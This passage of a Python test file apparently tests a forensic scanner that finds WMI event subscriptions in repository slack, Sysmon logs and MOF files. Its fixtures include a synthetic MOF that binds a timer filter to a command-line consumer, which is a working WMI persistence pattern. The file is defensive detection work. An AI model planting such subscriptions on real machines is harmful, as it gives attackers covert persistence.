    old_binding = _binding(CL, "Wiped", "WipedFilter")
    old_consumer = _command_consumer("Wiped", "C:\\Users\\Public\\w.exe")
    slack[0x1000:0x1000 + len(old_binding)] = old_binding
    slack[0x1400:0x1400 + len(old_consumer)] = old_consumer
    repo = Repository([bytes(PAGE), bytes(slack)], [1])
    found, problems = read_instances(io.BytesIO(repo.objects_data()), 2 * PAGE, read_mapping("M", repo.mapping_file()))
    assert problems == []
    assert sorted((i.offset, i.record_id, i.allocated) for i in found) == [
        (0x2020, 1, True), (0x3000, 0, False), (0x3400, 0, False)]
    root = minimal_windows(tmp_path / "C")
    _write_repository(root, repo)
    (finding,) = _wmi(scan_image(root, workers=1, policy=STS07)).values()
    assert finding.severity == Severity.MEDIUM and finding.evidence[0].offset == 0x3000
    assert finding.evidence[0].values["where"] == "page 0, slack" and finding.evidence[0].values["deleted"] is True
    assert finding.evidence[0].values["action"] == "C:\\Users\\Public\\w.exe"


def test_cli_scan_image_reports_the_subscriptions_as_json_lines(wmi_tree: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    import json

    from cranewatch.cli import main

    code = main(["scan-image", str(wmi_tree), "--format", "jsonl", "--fail-on", "critical"])
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.strip()]
    wmi = [r for r in records if str(r.get("rule", "")).startswith("windows.wmi")]
    assert code == 1  # ExitCode.FINDINGS: the critical subscription meets --fail-on
    assert {r["evidence"][0]["values"]["consumer"] for r in wmi} == {"CraneUpdater", "ScriptKit", "Dormant",
                                                                     "OldUpdater", "HmiScript"}
    crane = next(r for r in wmi if r["evidence"][0]["values"]["consumer"] == "CraneUpdater")
    assert crane["severity"] == "critical" and crane["evidence"][0]["offset"] == 0x6030
    assert crane["evidence"][0]["path"] == f"{REPO}/OBJECTS.DATA"


SYSMON = "Microsoft-Windows-Sysmon"
SYSMON_LOG = "Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"


def _sysmon(record_id: int, event_id: int, data: dict[str, str]) -> tuple[Element, datetime]:
    when = datetime(2024, 5, 14, 10, record_id, tzinfo=UTC)
    fields = {"RuleName": "-", "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.000"), "User": "CMS-PC\\cmsadmin", **data}
    return event(SYSMON, event_id, f"{SYSMON}/Operational", when, record_id, fields), when


def test_sysmon_wmi_events_give_the_subscription_and_a_deleted_one(tmp_path: Path) -> None:
    """Sysmon 19/20/21 as its published example renders them: MOF strings in quotes after a space,
    paths with doubled backslashes, quotes escaped (``Name=\\"x\\"``)."""
    root = minimal_windows(tmp_path / "C")
    ref = ' "\\\\\\\\.\\\\ROOT\\\\subscription:{cls}.Name=\\"{name}\\""'
    events = [
        _sysmon(1, 19, {"EventType": "WmiFilterEvent", "Operation": "Created", "EventNamespace": ' "root\\\\cimv2"',
                        "Name": ' "HoistWatch"', "Query": f' "{TIMER_QUERY}"'}),
        _sysmon(2, 20, {"EventType": "WmiConsumerEvent", "Operation": "Created", "Name": ' "HoistHelper"',
                        "Type": "Command Line", "Destination": ' "C:\\\\ProgramData\\\\hoist\\\\helper.exe -q"'}),
        _sysmon(3, 21, {"EventType": "WmiBindingEvent", "Operation": "Created",
                        "Consumer": ref.format(cls=CL, name="HoistHelper"),
                        "Filter": ref.format(cls="__EventFilter", name="HoistWatch")}),
        _sysmon(4, 21, {"EventType": "WmiBindingEvent", "Operation": "Created",
                        "Consumer": ref.format(cls=AS, name="Gone"), "Filter": ref.format(cls="__EventFilter", name="GoneF")}),
        _sysmon(5, 21, {"EventType": "WmiBindingEvent", "Operation": "Deleted",
                        "Consumer": ref.format(cls=AS, name="Gone"), "Filter": ref.format(cls="__EventFilter", name="GoneF")}),
        _sysmon(6, 1, {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c echo 19"}),  # not WMI
    ]
    log = write_evtx(root / SYSMON_LOG, events)
    assert "HoistHelper" in _python_evtx_text(log)  # the writer, checked independently
    found = _wmi(scan_image(root, workers=1, policy=STS07))
    assert set(found) == {"HoistHelper", "Gone"}
    hoist = found["HoistHelper"].evidence[0]
    assert found["HoistHelper"].severity == Severity.HIGH and hoist.values["source"] == "Sysmon event 21"
    assert hoist.values["action"] == "C:\\ProgramData\\hoist\\helper.exe -q" and hoist.values["query"] == TIMER_QUERY
    assert hoist.values["namespace"] == "root\\cimv2" and hoist.values["where"] == "record 3"
    assert found["Gone"].severity == Severity.MEDIUM and found["Gone"].evidence[0].values["deleted"] is True


def test_sources_complete_each_other(tmp_path: Path) -> None:
    """The repository keeps a binding whose consumer record is lost and a consumer bound to nothing;
    a MOF file declares the lost consumer's command and binds the idle one."""
    first, _ = page([(1, _binding(CL, "Lost", "LostFilter")),
                     (2, _command_consumer("Idle", "C:\\ProgramData\\idle\\i.exe"))])
    root = minimal_windows(tmp_path / "C")
    _write_repository(root, Repository([first], [0]))
    (root / AUTORECOVER).mkdir(parents=True)
    (root / AUTORECOVER / "pair.mof").write_text(
        '#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")\n'
        'instance of CommandLineEventConsumer as $Lost { Name = "Lost"; CommandLineTemplate = "C:\\\\ProgramData\\\\lost\\\\l.exe"; };\n'
        'instance of __EventFilter as $F { Name = "IdleFilter"; Query = "SELECT * FROM __TimerEvent"; };\n'
        'instance of __FilterToConsumerBinding { Consumer = "CommandLineEventConsumer.Name=\\"Idle\\""; Filter = $F; };\n')
    findings = [f for f in scan_image(root, workers=1, policy=STS07).findings if f.rule.startswith("windows.wmi")]
    assert sorted((f.rule, f.evidence[0].values["consumer"]) for f in findings) == [
        ("windows.wmi-subscription", "Idle"), ("windows.wmi-subscription", "Lost")]  # no "bound to nothing" for Idle
    lost = next(f for f in findings if f.evidence[0].values["consumer"] == "Lost")
    assert "C:\\ProgramData\\lost\\l.exe" in lost.title and lost.severity == Severity.HIGH
    assert [e.values["source"] for e in lost.evidence] == ["repository"]
    assert lost.evidence[0].values["consumer_where"] == f"{AUTORECOVER}/pair.mof:2"
